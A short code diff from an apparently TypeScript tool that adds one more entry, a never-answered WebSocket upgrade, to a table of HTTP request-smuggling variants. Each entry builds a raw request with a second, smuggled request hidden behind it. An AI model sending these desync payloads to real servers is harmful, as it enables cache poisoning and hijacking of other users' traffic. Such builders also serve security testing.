@@ -97,6 +97,8 @@ const WAYS: Readonly<Record<string, (to: Host) => string>> = {
     `${post(host, `Content-Length: ${smuggled.length}`).replace('POST', 'HEAD')}${smuggled}`,
   'a body that waits to be asked for': ({ host, smuggled }) =>
     `${post(host, 'Expect: 100-continue', `Content-Length: ${smuggled.length}`)}${smuggled}`,
+  'behind an upgrade that nobody answers': ({ host, smuggled }) =>
+    `${post(host, 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 777').replace('POST', 'GET')}${smuggled}`,
   'lines that end with line feeds': ({ host, smuggled }) => `GET /a HTTP/1.1\nHost: ${host}\n\n${smuggled}`,
   'a carriage return in the request line': ({ host, smuggled }) =>
     `GET /a HTTP/1.1\rX: y\r\nHost: ${host}\r\n\r\n${smuggled}`,
